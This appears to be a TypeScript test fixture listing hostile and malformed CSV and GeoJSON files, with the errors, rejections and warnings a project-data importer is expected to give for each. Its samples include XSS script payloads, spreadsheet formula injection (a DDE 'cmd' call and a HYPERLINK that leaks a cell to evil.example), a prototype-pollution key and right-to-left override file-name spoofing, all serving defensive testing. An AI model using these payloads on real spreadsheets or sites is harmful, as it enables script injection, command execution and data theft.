/**
 * Hostile and messy files, each with what the importer must say about it.
 * Used by the node tests (test/import/hostile.test.ts) and the browser tests.
 * `error`: the whole file is refused with a message containing this text;
 * otherwise `accepted` rows are imported and each `rejected` entry is a row
 * number with a fragment of its reason.
 */
import gcoord from 'gcoord';
import { countyLocator } from '../../src/analysis/countyLocator.ts';
import type { CountyCollection } from '../../src/geo/types.ts';
import { encodeGbk } from './gbk.ts';

export interface HostileFile {
  name: string;
  what: string;
  bytes: Uint8Array<ArrayBuffer>;
  error?: string;
  accepted?: number;
  rejected?: [row: number, reason: string][];
  /** Fragments of warnings on accepted rows. */
  warnings?: string[];
  /** Fragments of the reader's notes. */
  notes?: string[];
  /** Text that the rejected-rows download must keep (cells beyond the header, say). */
  kept?: string[];
  /** The file name as the app shows it, when it differs from `name`. */
  shownName?: string;
}

const utf8 = (s: string) => new TextEncoder().encode(s);
const HEADER = '项目名称,总投资（亿元）,县区,建设地点,经度,纬度';

/** A point inside 长治 whose GCJ-02 reading falls outside: the GCJ shift pushes it over the eastern edge. */
export function gcjEdgePoint(counties: CountyCollection): [number, number] {
  const locate = countyLocator(counties);
  for (let lat = 36.0; lat < 36.9; lat += 0.01) {
    for (let lon = 114.1; lon > 113.3; lon -= 0.0005) {
      if (!locate(lon, lat)) continue;
      const gcj = gcoord.transform([lon, lat], gcoord.WGS84, gcoord.GCJ02) as [number, number];
      if (!locate(gcj[0], gcj[1])) return [Number(gcj[0].toFixed(6)), Number(gcj[1].toFixed(6))];
      break;
    }
  }
  throw new Error('no edge point found');
}

export function hostileCorpus(counties: CountyCollection): HostileFile[] {
  const [gx, gy] = gcjEdgePoint(counties);
  const manyRows = `${HEADER}\n${'项目,1,平顺县,,,\n'.repeat(100_001)}`;
  const longHeader = (label: string) => `${label}${'很长的表头'.repeat(20_000)}`;
  return [
    {
      name: 'xss-names.csv',
      what: 'script tags and event-handler attributes in names and places',
      bytes: utf8(
        `${HEADER}\n` +
          `"<script>window.__pwned=1</script>",1,平顺县,,,\n` +
          `"<img src=x onerror=""window.__pwned=2"">",2,平顺县,<b onmouseover=alert(1)>青羊镇</b>,,\n` +
          `"""><svg onload=window.__pwned=3>",3,潞州区,,,\n`,
      ),
      accepted: 3,
      rejected: [],
    },
    {
      name: 'formula.csv',
      what: 'formula injection in cells',
      bytes: utf8(`${HEADER}\n"=cmd|' /C calc'!A0",1,平顺县,,,\n+SUM(1;2),2,平顺县,,,\n@HYPERLINK(x),=1+1,平顺县,,,\n`),
      accepted: 2,
      rejected: [[4, '不是数字：“=1+1”']],
    },
    { name: 'empty.csv', what: 'zero bytes', bytes: new Uint8Array(0), error: '文件是空的（0 字节）' },
    { name: 'blank.csv', what: 'whitespace only', bytes: utf8(' \r\n\t\n '), error: '文件中只有空白' },
    { name: 'header-only.csv', what: 'a header and no rows', bytes: utf8(`${HEADER}\n\n`), error: '文件只有表头，没有数据行' },
    {
      name: 'garbage.csv',
      what: 'binary garbage',
      bytes: Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256),
      error: '文件不是文本（含有二进制数据）',
    },
    {
      name: 'control.csv',
      what: 'text full of control characters, no NUL',
      bytes: Uint8Array.from({ length: 2000 }, (_, i) => (i % 3 === 0 ? 0x01 + (i % 8) : 0x41)),
      error: '文件不是文本（含有大量控制字符）',
    },
    { name: 'workbook.csv', what: 'an .xlsx renamed to .csv', bytes: Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]), error: '这是 Excel 工作簿（.xlsx）' },
    { name: 'old.csv', what: 'an .xls renamed to .csv', bytes: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), error: '旧版 Excel/WPS 工作簿' },
    {
      name: 'bad-encoding.csv',
      what: 'neither UTF-8 nor GBK',
      bytes: Uint8Array.from([0x61, 0x2c, 0x62, 0x0a, 0x81, 0x20, 0x81, 0x20, 0x2c, 0xff, 0x0a]),
      error: '无法识别文件的编码',
    },
    {
      name: 'gbk.csv',
      what: 'GBK, as Excel saves a Chinese CSV',
      bytes: encodeGbk(`${HEADER}\n平顺县青羊镇卫生院,0.5,平顺县,青羊镇,,\n沁源县养老院,1.2,沁源县,,,\n`),
      accepted: 2,
      rejected: [],
      notes: ['GBK/GB18030'],
    },
    {
      name: 'bom.csv',
      what: 'UTF-8 with a BOM before the header',
      bytes: utf8(`\uFEFF${HEADER}\n带BOM的项目,1,壶关县,,,\n`),
      accepted: 1,
      rejected: [],
      notes: ['BOM'],
    },
    {
      name: 'utf16.txt',
      what: 'UTF-16LE with BOM, tab-separated (Excel “Unicode 文本”)',
      bytes: (() => {
        const text = `项目名称\t总投资\t县区\nUTF16项目\t2\t黎城县\n`;
        const out = new Uint8Array(2 + text.length * 2);
        out[0] = 0xff;
        out[1] = 0xfe;
        for (let i = 0; i < text.length; i++) {
          const c = text.charCodeAt(i);
          out[2 + i * 2] = c & 0xff;
          out[3 + i * 2] = c >> 8;
        }
        return out;
      })(),
      accepted: 1,
      rejected: [],
      notes: ['UTF-16LE'],
    },
    {
      name: 'coordinates.csv',
      what: 'swapped, GCJ-02-shifted, projected and foreign coordinates',
      bytes: utf8(
        `${HEADER}\n` +
          `好坐标,1,,,113.116,36.195\n` +
          `填反,1,,,36.195,113.116\n` +
          `高德坐标,1,,,${gx},${gy}\n` +
          `投影坐标,1,,,38512345.6,4012345.7\n` +
          `北京,1,,,116.397,39.909\n` +
          `只有经度,1,,,113.1,\n` +
          `度分秒,1,,,113°06'30",36°12'\n`,
      ),
      accepted: 1,
      rejected: [
        [3, '经纬度可能填反了'],
        [4, '可能是 GCJ-02（高德、腾讯）坐标'],
        [5, '像是投影坐标'],
        [6, '不在长治市内'],
        [7, '有经度而缺少纬度'],
        [8, '不是十进制度数'],
      ],
    },
    {
      name: 'messy.csv',
      what: 'missing names, bad amounts, unknown counties, an unclosed quote',
      bytes: utf8(
        `${HEADER}\n` +
          `,1,平顺县,,,\n` +
          `负数,-5,平顺县,,,\n` +
          `文字,约一亿,平顺县,,,\n` +
          `太原项目,1,太原市,,,\n` +
          `无处,1,,某地,,\n` +
          `多列,1,平顺县,,,,多余\n` +
          `过大,200000,平顺县,,,\n` +
          `占位,—,平顺县,,,\n` +
          `"没闭合,1,平顺县,,,\n`,
      ),
      accepted: 1,
      rejected: [
        [2, '缺少项目名称'],
        [3, '投资额不能为负数'],
        [4, '不是数字：“约一亿”'],
        [5, '未知的县区“太原市”'],
        [6, '无法定位'],
        [7, '比表头多出'],
        [8, '超过 10 万亿元'],
        [10, '引号没有闭合'],
      ],
    },
    {
      name: 'duplicates.csv',
      what: 'a row that repeats a plan project, and one that repeats an earlier row',
      bytes: utf8(`${HEADER}\n长治市第二人民医院结合康复护理院（新建）,1,潞州区,,,\n自建项目,1,潞州区,,,\n自建项目,2,潞州区,,,\n`),
      accepted: 3,
      rejected: [],
      warnings: ['与规划项目', '与第 3 行同名'],
    },
    {
      name: 'bidi.csv',
      what: 'bidirectional overrides and control characters in a name',
      bytes: utf8(`${HEADER}\n"项目\u202Egpj.exe\u0007",1,平顺县,,,\n`),
      accepted: 1,
      rejected: [],
      warnings: ['控制字符已删除'],
    },
    { name: 'too-many-rows.csv', what: '100,001 data rows', bytes: utf8(manyRows), error: '超过 100,000 行数据的上限' },
    {
      name: 'too-many-columns.csv',
      what: '201 columns',
      bytes: utf8(`${Array.from({ length: 201 }, (_, i) => `c${i}`).join(',')}\n1\n`),
      error: '超过上限 200 列',
    },
    { name: 'broken.geojson', what: 'JSON that does not parse', bytes: utf8('{"type":"FeatureCollection","features":[{'), error: '不是有效的 JSON' },
    { name: 'array.geojson', what: 'JSON that is not GeoJSON', bytes: utf8('[1,2,3]'), error: '顶层应为 FeatureCollection' },
    {
      name: 'hostile.geojson',
      what: 'GeoJSON with a script in a name, a polygon, a prototype key and a swapped point',
      bytes: utf8(
        JSON.stringify({
          type: 'FeatureCollection',
          features: [
            { type: 'Feature', properties: { 项目名称: '<script>window.__pwned=4</script>', 总投资: 1 }, geometry: { type: 'Point', coordinates: [113.116, 36.195] } },
            { type: 'Feature', properties: { 项目名称: '面要素' }, geometry: { type: 'Polygon', coordinates: [[[113, 36], [113.1, 36], [113, 36.1], [113, 36]]] } },
            { type: 'Feature', properties: { 项目名称: '原型', 县区: '平顺县', ['__proto__']: { polluted: true } }, geometry: null },
            { type: 'Feature', properties: { 项目名称: '填反' }, geometry: { type: 'Point', coordinates: [36.195, 113.116] } },
          ],
        }),
      ),
      accepted: 2,
      rejected: [
        [2, '只能导入点'],
        [4, '经纬度可能填反了'],
      ],
    },
      {
      name: 'mixed-endings.csv',
      what: 'CRLF, LF and CR line endings in one file (sheets pasted together)',
      bytes: utf8(`${HEADER}\r\n换行甲,1,平顺县,,,\n换行乙,2,沁县,,,\r换行丙,3,壶关县,,,\r\n`),
      accepted: 3,
      rejected: [],
      notes: ['换行符'],
    },
    {
      name: 'long-headers.csv',
      what: 'header cells of 100,000 characters (a 19.6 MB file of them froze the tab)',
      bytes: utf8(`${longHeader('项目名称')},${longHeader('县区')},${longHeader('备注')}\n长表头项目,平顺县,x\n`),
      accepted: 1,
      rejected: [],
      notes: ['表头超过 100 字，已截断'],
    },
    {
      name: 'multiline-formula.csv',
      what: 'formulas behind a line break, in a cell and in the header',
      bytes: utf8(
        `"=1+1\n项目名称",总投资（亿元）,县区\n` +
          `"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")\n",abc,平顺县\n` +
          `"@SUM(A1)\n",1,平顺县\n`,
      ),
      accepted: 1,
      rejected: [[2, '不是数字：“abc”']],
    },
    {
      name: 'empty-tail.csv',
      what: '5 rows, then 120,000 lines of ,,,,, (what Excel writes for formatted empty rows)',
      bytes: utf8(`${HEADER}\n${'空行前的项目,1,平顺县,,,\n'.repeat(5)}${',,,,,\n'.repeat(120_000)}`),
      accepted: 5,
      rejected: [],
    },
    {
      name: 'too-many-lines.csv',
      what: '1,000,001 empty lines after the header',
      bytes: utf8(`${HEADER}\n项目,1,平顺县,,,\n${',\n'.repeat(1_000_001)}`),
      error: '超过 1,000,000 行（含空行）',
    },
    {
      name: 'extra-cells.csv',
      what: 'rows with more cells than the header',
      bytes: utf8(`${HEADER}\n多列,1,平顺县,,,,多出的甲,多出的乙\n正常,1,平顺县,,,\n`),
      accepted: 1,
      rejected: [[2, '比表头多出 2 个单元格']],
      kept: ['多出的甲', '多出的乙'],
    },
    {
      name: 'invisible-names.csv',
      what: 'names made only of invisible characters; a name with a direction override',
      bytes: utf8(
        `${HEADER}\n` +
          ['\u200b', '\u2060\u2060', '\u061c', '\u3164', '\u00ad', '\u200b \u3000\ufeff'].map((n) => `${n},1,平顺县,,,\n`).join('') +
          `报告\u202Efdp.exe,1,平顺县,,,\n`,
      ),
      accepted: 1,
      rejected: [2, 3, 4, 5, 6, 7].map((row) => [row, '缺少项目名称（只有不可见字符）'] as [number, string]),
      warnings: ['不可见字符或控制字符已删除'],
    },
    {
      name: '名单\u202Evsc.exe.csv',
      what: 'a file name with a right-to-left override',
      bytes: utf8(`${HEADER}\n文件名测试,1,平顺县,,,\n`),
      accepted: 1,
      rejected: [],
      shownName: '名单vsc.exe.csv',
    },
    {
      name: 'geojson-named.csv',
      what: 'a GeoJSON file saved with a .csv name',
      bytes: utf8(
        `\n  ${JSON.stringify({ type: 'FeatureCollection', features: [{ type: 'Feature', properties: { 项目名称: '伪装的要素', 县区: '沁县' }, geometry: null }] })}`,
      ),
      accepted: 1,
      rejected: [],
      notes: ['内容是 GeoJSON'],
    },
    {
      name: 'long-keys.geojson',
      what: 'GeoJSON property keys of 100,000 characters',
      bytes: utf8(
        JSON.stringify({
          type: 'FeatureCollection',
          features: [{ type: 'Feature', properties: { [longHeader('项目名称')]: '长键要素', [longHeader('项目名称x')]: '第二列', 县区: '沁县' }, geometry: null }],
        }),
      ),
      accepted: 1,
      rejected: [],
      notes: ['表头超过 100 字，已截断'],
    },
  ];
}
